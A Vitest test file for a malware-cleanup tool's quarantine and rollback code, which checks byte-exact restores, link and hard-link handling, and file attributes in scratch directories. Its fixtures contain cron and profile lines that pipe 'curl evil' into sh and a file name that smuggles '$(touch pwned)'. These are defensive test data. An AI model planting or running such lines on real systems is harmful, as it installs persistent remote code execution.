import { describe, expect, it, beforeEach, afterEach } from 'vitest';
import { execFileSync, spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, writeFileSync, readFileSync, rmSync, statSync, existsSync, symlinkSync, readlinkSync, lstatSync, linkSync, readdirSync, chmodSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { decodeLossless, encodeLossless } from '../../../src/core/bytes.js';
import { phaseCommand } from '../../../src/engine/run-step.js';
import { planQuarantine } from '../../../src/quarantine/plan.js';
import { parseRestoreOutput, planRestoreRecords, recordId, RESTORED_OK } from '../../../src/quarantine/rollback.js';
import { parseQuarantineOutput } from '../../../src/quarantine/manifest.js';
import { removeLinesScript } from '../../../src/planning/line-edit.js';
import type { QuarantineRecord } from '../../../src/run/types.js';

// The undo library on a real /bin/sh in a scratch directory: every change is recorded on the
// "host" before it is made (record phase, then apply phase), and the restore puts each path
// back as it was: bytes, type, mode, owner, attributes, link target, link count. Nothing is
// followed through a link; FIFOs stay where they are.

const isRoot = process.getuid?.() === 0;
function lsattr(p: string): string {
  const r = spawnSync('lsattr', ['-d', p], { encoding: 'latin1' });
  return r.status === 0 ? r.stdout.split(' ')[0]! : '';
}
const chattrWorks = (() => {
  if (!isRoot) return false;
  const d = mkdtempSync(path.join(tmpdir(), 'ms-attr-'));
  const f = path.join(d, 'x');
  writeFileSync(f, 'x');
  const ok = spawnSync('chattr', ['+i', f]).status === 0;
  spawnSync('chattr', ['-i', f]);
  rmSync(d, { recursive: true });
  return ok;
})();

function sh(script: string, stdin?: string): { code: number; stdout: string; stderr: string } {
  const r = spawnSync('/bin/sh', ['-c', script], { encoding: 'latin1', input: stdin ?? '' });
  return { code: r.status ?? -1, stdout: decodeLossless(Buffer.from(r.stdout, 'latin1')), stderr: r.stderr };
}

let seq = 0;
/** Both phases of a journaled step, as the engine runs them. */
function journaled(command: string, opts: { stopAfterRecord?: boolean; stdin?: string } = {}): { records: QuarantineRecord[]; apply?: ReturnType<typeof sh>; q: string } {
  const n = ++seq;
  const rec = sh(phaseCommand(command, 'record', n), opts.stdin);
  expect(rec.code, rec.stdout + rec.stderr).toBe(0);
  const records = parseQuarantineOutput(rec.stdout, q);
  if (opts.stopAfterRecord) return { records, q };
  return { records, apply: sh(phaseCommand(command, 'apply', n), opts.stdin), q };
}

function restore(records: QuarantineRecord[]): { code: number; outcomes: string[]; stdout: string } {
  let code = 0;
  let stdout = '';
  for (const s of planRestoreRecords(records, q)) {
    const r = sh(s.command);
    code ||= r.code;
    stdout += r.stdout;
  }
  const res = parseRestoreOutput(stdout);
  return { code, stdout, outcomes: records.map((r, i) => res.get(recordId(r, i))?.outcome ?? 'none') };
}

const state = (p: string | Buffer) => {
  const l = lstatSync(p);
  return { mode: l.mode, uid: l.uid, gid: l.gid, nlink: l.nlink, ino: l.ino, link: l.isSymbolicLink() ? readlinkSync(p) : null, bytes: l.isFile() ? readFileSync(p).toString('hex') : null, attrs: l.isSymbolicLink() ? '' : lsattr(p) };
};

let dir: string;
let q: string;
beforeEach(() => {
  dir = mkdtempSync(path.join(tmpdir(), 'ms-q-'));
  q = path.join(dir, 'quarantine');
});
afterEach(() => {
  spawnSync('chattr', ['-R', '-i', '-a', dir]);
  rmSync(dir, { recursive: true, force: true });
});

describe('quarantine and rollback on a real shell', () => {
  it('records before it moves, then brings hostile names, a setuid file and a +i file back byte-exact', () => {
    const hostileBytes = Buffer.concat([Buffer.from(path.join(dir, "evil name\n$(touch pwned)'\"\x1b[31m")), Buffer.from([0xff, 0xfe])]);
    const hostile = decodeLossless(hostileBytes);
    const plain = path.join(dir, 'kdevtmpfsi');
    const content = Buffer.from([0, 1, 2, 255, 10, 13, 0x41]);
    writeFileSync(hostileBytes, content);
    chmodSync(hostileBytes, 0o4751);
    writeFileSync(plain, 'miner\n', { mode: 0o755 });
    if (chattrWorks) execFileSync('chattr', ['+i', plain]);
    const before = [state(hostileBytes), state(plain)];
    const step = planQuarantine([hostile, plain], q)[0]!;
    expect(step.journal).toBe(true);
    // the record phase changes nothing but writes the records, synced, to the manifest
    const first = journaled(step.command, { stopAfterRecord: true });
    expect(existsSync(hostileBytes) && existsSync(plain)).toBe(true);
    expect(first.records.map((x) => x.originalPath)).toEqual([hostile, plain]);
    expect(first.records[0]!.mode).toBe('4751');
    expect(first.records[0]!.fileType).toBe('file');
    if (chattrWorks) expect(first.records[1]!.attrs).toContain('i');
    expect(parseQuarantineOutput(readFileSync(path.join(q, 'manifest'), 'utf8'), q, false)).toEqual(first.records);
    expect(statSync(q).mode & 0o777).toBe(0o700);

    const { records, apply } = journaled(step.command);
    expect(apply!.code, apply!.stdout).toBe(0);
    expect(existsSync(hostileBytes) || existsSync(plain)).toBe(false);
    expect(existsSync(path.join(dir, 'pwned'))).toBe(false);
    // the quarantined inode is the same file (moved, not copied)
    expect(statSync(records[1]!.quarantinePath).ino).toBe(before[1]!.ino);

    const r = restore(records);
    expect(r.code, r.stdout).toBe(0);
    expect(r.outcomes).toEqual(['restored', 'restored']);
    expect([state(hostileBytes), state(plain)]).toEqual(before);
    // a second rollback finds everything in place and changes nothing
    const again = restore(records);
    expect(again.code).toBe(0);
    expect(again.outcomes).toEqual(['present', 'present']);
  });

  it('moves a symlink as a link (its target untouched) and brings it back as a link', () => {
    const target = path.join(dir, 'group');
    writeFileSync(target, 'root:x:0:\n* * * * * root curl evil | sh\n', { mode: 0o644 });
    const link = path.join(dir, 'cron.d-x');
    symlinkSync(target, link);
    const targetBefore = state(target);
    const { records, apply } = journaled(planQuarantine([link, path.join(dir, 'absent')], q)[0]!.command);
    expect(apply!.code).toBe(0);
    expect(apply!.stdout).toContain('MSQ-ABSENT');
    expect(records).toHaveLength(1);
    expect(records[0]!.fileType).toBe('link');
    expect(records[0]!.linkTarget).toBe(target);
    expect(existsSync(link)).toBe(false);
    expect(state(target)).toEqual(targetBefore);
    expect(restore(records).outcomes).toEqual(['restored']);
    expect(lstatSync(link).isSymbolicLink()).toBe(true);
    expect(readlinkSync(link)).toBe(target);
    expect(state(target)).toEqual(targetBefore);
  });

  it('keeps hard links: a moved file comes back as the same inode with its link count', () => {
    const f = path.join(dir, 'cron-hard');
    const peer = path.join(dir, 'peer');
    writeFileSync(f, '* * * * * root /tmp/x\n', { mode: 0o600 });
    linkSync(f, peer);
    const before = state(f);
    expect(before.nlink).toBe(2);
    const { records } = journaled(planQuarantine([f], q)[0]!.command);
    expect(records[0]!.nlink).toBe(2);
    expect(existsSync(f)).toBe(false);
    expect(statSync(peer).mode & 0o777).toBe(0o600); // the peer's mode is not narrowed through the shared inode
    expect(restore(records).outcomes).toEqual(['restored']);
    expect(state(f)).toEqual(before);
  });

  it('records a FIFO and leaves it in place (never opened)', () => {
    const fifo = path.join(dir, 'fifo');
    execFileSync('mkfifo', ['-m', '0640', fifo]);
    const { records, apply } = journaled(planQuarantine([fifo], q)[0]!.command);
    expect(apply!.code).toBe(0);
    expect(apply!.stdout).toContain('MS-SPECIAL fifo');
    expect(records[0]!.kind).toBe('special');
    expect(lstatSync(fifo).isFIFO()).toBe(true);
    expect(restore(records).outcomes).toEqual(['special']);
  });

  it('moves a large sparse file without copying it: same inode, still sparse after the round trip', () => {
    const big = path.join(dir, 'big.img');
    execFileSync('truncate', ['-s', '64M', big]);
    writeFileSync(big, 'tail', { flag: 'r+' });
    const before = state(big);
    const blocks = statSync(big).blocks;
    const { records } = journaled(planQuarantine([big], q)[0]!.command);
    expect(statSync(records[0]!.quarantinePath).ino).toBe(before.ino);
    expect(restore(records).outcomes).toEqual(['restored']);
    expect(statSync(big).ino).toBe(before.ino);
    expect(statSync(big).blocks).toBe(blocks);
    expect(statSync(big).size).toBe(64 * 1024 * 1024);
  });

  it('a run killed after the record phase changed nothing, and rollback says so and exits 0', () => {
    const f = path.join(dir, 'x');
    writeFileSync(f, 'a\nbad\n');
    const before = state(f);
    const { records } = journaled(removeLinesScript(f, ['bad'], q), { stopAfterRecord: true });
    expect(records.map((r) => r.kind)).toEqual(['backup']);
    const r = restore(records);
    expect(r.code).toBe(0);
    expect(r.outcomes).toEqual(['present']);
    expect(state(f)).toEqual(before);
  });

  it('the apply phase changes nothing without its record, or when the file changed since', () => {
    const f = path.join(dir, 'x');
    writeFileSync(f, 'a\nbad\n');
    const cmd = removeLinesScript(f, ['bad'], q);
    const lone = sh(phaseCommand(cmd, 'apply', 99));
    expect(lone.code).not.toBe(0);
    expect(lone.stdout).toContain('MS-UNRECORDED');
    expect(readFileSync(f, 'utf8')).toBe('a\nbad\n');
    expect(sh(phaseCommand(cmd, 'record', 100)).code).toBe(0);
    writeFileSync(f, 'a\nbad\nnew line\n');
    const late = sh(phaseCommand(cmd, 'apply', 100));
    expect(late.code).not.toBe(0);
    expect(late.stdout).toContain('MS-CHANGED-SINCE-RECORD');
    expect(readFileSync(f, 'utf8')).toBe('a\nbad\nnew line\n');
  });

  it('fails loudly when a quarantined copy no longer matches its sha256', () => {
    const f = path.join(dir, 'x');
    writeFileSync(f, 'a');
    const { records } = journaled(planQuarantine([f], q)[0]!.command);
    chmodSync(records[0]!.quarantinePath, 0o600);
    writeFileSync(records[0]!.quarantinePath, 'tampered');
    const r = restore(records);
    expect(r.code).not.toBe(0);
    expect(r.outcomes).toEqual(['mismatch']);
    expect(existsSync(f)).toBe(false);
    expect(encodeLossless(records[0]!.originalPath).toString()).toBe(f);
  });

  it('a file named twice (through a symlinked directory) moves once; a directory listed with a file inside moves after it', () => {
    const real = path.join(dir, 'usr-bin');
    mkdirSync(real);
    symlinkSync(real, path.join(dir, 'bin'));
    const f = path.join(real, 'ps.evil');
    writeFileSync(f, 'x');
    const drop = path.join(dir, 'drop');
    mkdirSync(drop);
    writeFileSync(path.join(drop, 'miner'), 'm', { mode: 0o755 });
    const { records, apply } = journaled(planQuarantine([path.join(dir, 'bin', 'ps.evil'), f, drop, path.join(drop, 'miner')], q)[0]!.command);
    expect(apply!.code, apply!.stdout).toBe(0);
    expect(records.map((r) => path.relative(dir, r.originalPath))).toEqual(['bin/ps.evil', 'drop/miner', 'drop']);
    expect(existsSync(f) || existsSync(drop)).toBe(false);
    expect(restore(parseQuarantineOutput(readFileSync(path.join(q, 'manifest'), 'utf8'), q, false)).outcomes).toEqual(['restored', 'restored', 'restored']);
    expect(readFileSync(f, 'utf8')).toBe('x');
    expect(readFileSync(path.join(drop, 'miner'), 'utf8')).toBe('m');
  });

  it('moves whatever took the path aside instead of overwriting it', () => {
    const f = path.join(dir, 'ps');
    writeFileSync(f, '#!/bin/sh\nevil\n', { mode: 0o755 });
    const { records } = journaled(planQuarantine([f], q)[0]!.command);
    writeFileSync(f, 'something new');
    expect(restore(records).outcomes).toEqual(['restored']);
    expect(readFileSync(f, 'utf8')).toBe('#!/bin/sh\nevil\n');
    const aside = readdirSync(q).filter((n) => n.startsWith('pre-rollback-'));
    expect(aside.map((n) => readFileSync(path.join(q, n), 'utf8'))).toEqual(['something new']);
  });
});

describe('line edits never follow links and keep hard links', () => {
  it('a symlinked cron file: the link itself goes into quarantine, its target is not edited; rollback puts the link back', () => {
    const target = path.join(dir, 'group');
    writeFileSync(target, 'root:x:0:\n* * * * * root curl evil | sh\n', { mode: 0o644 });
    const link = path.join(dir, 'cron-x');
    symlinkSync(target, link);
    const targetBefore = state(target);
    const { records, apply } = journaled(removeLinesScript(link, ['* * * * * root curl evil | sh'], q, 'quarantine'));
    expect(apply!.code, apply!.stdout).toBe(0);
    expect(apply!.stdout).toContain('MS-CHANGED the link itself');
    expect(existsSync(link)).toBe(false);
    expect(state(target)).toEqual(targetBefore);
    expect(restore(records).outcomes).toEqual(['restored']);
    expect(readlinkSync(link)).toBe(target);
    expect(lstatSync(link).isSymbolicLink()).toBe(true);
  });

  it("with links 'keep' a symlinked file is left as it is", () => {
    const target = path.join(dir, 'keys');
    writeFileSync(target, 'ssh-ed25519 AAAA ctl\nssh-rsa BBBB rogue\n');
    const link = path.join(dir, 'authorized_keys');
    symlinkSync(target, link);
    const { records, apply } = journaled(removeLinesScript(link, ['ssh-rsa BBBB rogue'], q, 'keep'));
    expect(apply!.stdout).toContain('MS-LINK-KEPT');
    expect(records).toEqual([]);
    expect(readFileSync(target, 'utf8')).toContain('rogue');
    expect(lstatSync(link).isSymbolicLink()).toBe(true);
  });

  it('a hard-linked file is edited in place (both names see it) and comes back with its links', () => {
    const f = path.join(dir, 'crontab');
    const peer = path.join(dir, '.hidden-copy');
    writeFileSync(f, 'MAILTO=""\n*/5 * * * * curl evil | sh\n', { mode: 0o600 });
    linkSync(f, peer);
    const before = state(f);
    const { records, apply } = journaled(removeLinesScript(f, ['*/5 * * * * curl evil | sh'], q));
    expect(apply!.code).toBe(0);
    expect(readFileSync(peer, 'utf8')).toBe('MAILTO=""\n');
    expect(statSync(f).ino).toBe(before.ino);
    expect(statSync(f).nlink).toBe(2);
    expect(restore(records).outcomes).toEqual(['restored']);
    expect(state(f)).toEqual(before);
    expect(readFileSync(peer, 'utf8')).toBe('MAILTO=""\n*/5 * * * * curl evil | sh\n');
  });

  it.skipIf(!chattrWorks)('an append-only file is unlocked for the edit and locked again by the rollback', () => {
    const f = path.join(dir, 'profile');
    writeFileSync(f, 'export A=1\ncurl evil | sh\n', { mode: 0o644 });
    execFileSync('chattr', ['+a', f]);
    const before = state(f);
    const { records, apply } = journaled(removeLinesScript(f, ['curl evil | sh'], q));
    expect(apply!.code, apply!.stdout).toBe(0);
    expect(readFileSync(f, 'utf8')).toBe('export A=1\n');
    expect(records[0]!.attrs).toContain('a');
    const r = restore(records);
    expect(r.outcomes.every((o) => RESTORED_OK.has(o as never))).toBe(true);
    expect(state(f).bytes).toBe(before.bytes);
    expect(lsattr(f)).toContain('a');
    expect(state(f).mode).toBe(before.mode);
    // no temporary file of the edit is left beside it
    expect(readdirSync(dir).filter((n) => n.startsWith('.ms-'))).toEqual([]);
  });
});
